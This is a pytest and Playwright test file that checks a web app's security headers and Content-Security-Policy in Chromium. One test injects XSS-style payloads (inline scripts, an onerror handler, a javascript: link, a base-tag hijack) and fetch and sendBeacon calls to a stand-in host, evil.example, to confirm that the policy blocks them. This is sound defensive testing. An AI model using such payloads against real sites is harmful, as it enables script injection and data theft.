"""The content policy of each page, in a real Chromium: nothing a page needs breaks it, and what an intruder would put there does."""

from __future__ import annotations

import shutil
import signal
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import httpx
import pytest

from tests.ui.test_journey import browser  # noqa: F401 - a fixture
from tests.ui.test_serving import Served

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

_BROKEN = """window.broken = []; document.addEventListener('securitypolicyviolation',
  (event) => window.broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber} ${event.sample}`))"""
GRADIO = ("/", "/library", "/curate", "/lab")
RECORD = "/review/abdallah-2018-neurobiology-depression-ketamine"
PLAIN = ("/notes", "/lists", "/conversations", "/questions", "/digest", RECORD, "/pages/empty", "/review/none")


@pytest.fixture(scope="module")
def kept(built_home: Path, models_folder: Path, command: list[str], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    running = Served(Path(shutil.copytree(built_home, tmp_path_factory.mktemp("policy") / "home")), models_folder, command)
    yield running
    running.stop(signal.SIGKILL)


def directives(answer: httpx.Response) -> dict[str, list[str]]:
    parts = [part.split() for part in answer.headers["content-security-policy"].split(";")]
    return {part[0]: part[1:] for part in parts if part}


def test_every_answer_has_the_headers(kept: Served) -> None:
    with httpx.Client(base_url=kept.url) as client:
        for path in (*GRADIO, *PLAIN, "/health", "/pages/page.css", "/config", "/nothing", "/gradio_api/proxy=x", "/theme.css", "/digest/feed.atom"):
            answer = client.get(path)
            assert answer.headers["x-content-type-options"] == "nosniff", path
            assert answer.headers["x-frame-options"] == "SAMEORIGIN"
            assert answer.headers["referrer-policy"] == "same-origin"
            assert answer.headers["cross-origin-opener-policy"] == answer.headers["cross-origin-resource-policy"] == "same-origin"
            assert "camera=()" in answer.headers["permissions-policy"]
            found = directives(answer)
            assert found["frame-ancestors"] == ["'self'"]
            assert found["base-uri"] == (["'self'"] if path in GRADIO else ["'none'"])
            assert "unsafe-inline" not in " ".join(found.get("script-src", []) + found["default-src"]), path
            if path not in GRADIO:
                assert found["default-src"] == ["'none'"], path
                assert "unsafe" not in answer.headers["content-security-policy"], path
        assert client.get("/", headers={"host": "evil.example"}).headers["x-content-type-options"] == "nosniff"


def open_page(browser: Browser, kept: Served) -> Page:  # noqa: F811 - the fixture's type
    page = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
    page.set_default_timeout(30_000)
    page.add_init_script(_BROKEN)
    return page


def broken(page: Page) -> list[Any]:
    return [line for frame in page.frames for line in frame.evaluate("window.broken || []")]


@pytest.mark.browser
def test_no_page_breaks_its_own_policy(browser: Browser, kept: Served) -> None:  # noqa: F811 - the fixture
    page = open_page(browser, kept)
    page.goto(kept.url)
    page.fill("#fl-box textarea", "How does ketamine act on glutamate to relieve depression?")
    page.keyboard.press("Enter")
    page.wait_for_selector("a.fl-cite")
    page.locator("a.fl-cite").first.click()
    page.frame_locator("#fl-evidence iframe").locator("#marked").wait_for()
    page.wait_for_function("location.search.includes('c=')")
    assert broken(page) == []
    page.goto(f"{kept.url}/library")
    page.wait_for_selector("#fl-found .fl-count")
    page.locator("#fl-facets .fl-value").first.click()
    page.wait_for_selector(".fl-chip")
    assert broken(page) == []
    for path in ("/curate", "/lab"):
        page.goto(kept.url + path)
        page.wait_for_selector("[role=tab]")
        for tab in page.get_by_role("tab").all():
            tab.click()
            page.wait_for_timeout(300)
        assert broken(page) == [], path
    for path in PLAIN:
        page.goto(kept.url + path)
        assert broken(page) == [], path
    page.context.close()


@pytest.mark.browser
@pytest.mark.parametrize("path", ["/", RECORD])
def test_what_is_put_into_a_page_does_not_run(browser: Browser, kept: Served, path: str) -> None:  # noqa: F811 - the fixture
    page = open_page(browser, kept)
    asked: list[str] = []
    page.route("https://evil.example/**", lambda route: (asked.append(route.request.url), route.abort()))  # what a policy stops never comes here
    page.goto(kept.url + path)
    page.wait_for_selector("#fl-box textarea" if path == "/" else "main")
    page.evaluate(
        """() => {
          const put = (tag, given) => document.body.appendChild(Object.assign(document.createElement(tag), given));
          put('script', {textContent: 'window.ran = 1'});
          put('script', {src: 'https://evil.example/x.js'});
          put('div', {innerHTML: '<img src=x onerror="window.ran = 2"><a id=bad href="javascript:void(window.ran = 3)">x</a>'});
          put('img', {src: 'https://evil.example/x.png'});
          put('iframe', {src: 'https://evil.example/'});
          put('base', {href: 'https://evil.example/'});
          document.getElementById('bad').click();
          fetch('https://evil.example/').catch(() => 0);
          navigator.sendBeacon('https://evil.example/', 'x');
        }"""
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") is None
    assert asked == []
    assert page.evaluate("document.baseURI").startswith(kept.url)
    wanted = {"script-src-elem", "script-src-attr", "connect-src", "img-src"} | ({"base-uri"} if path != "/" else set())  # Gradio has a base already
    assert wanted <= {line.split()[0] for line in broken(page)}
    page.context.close()
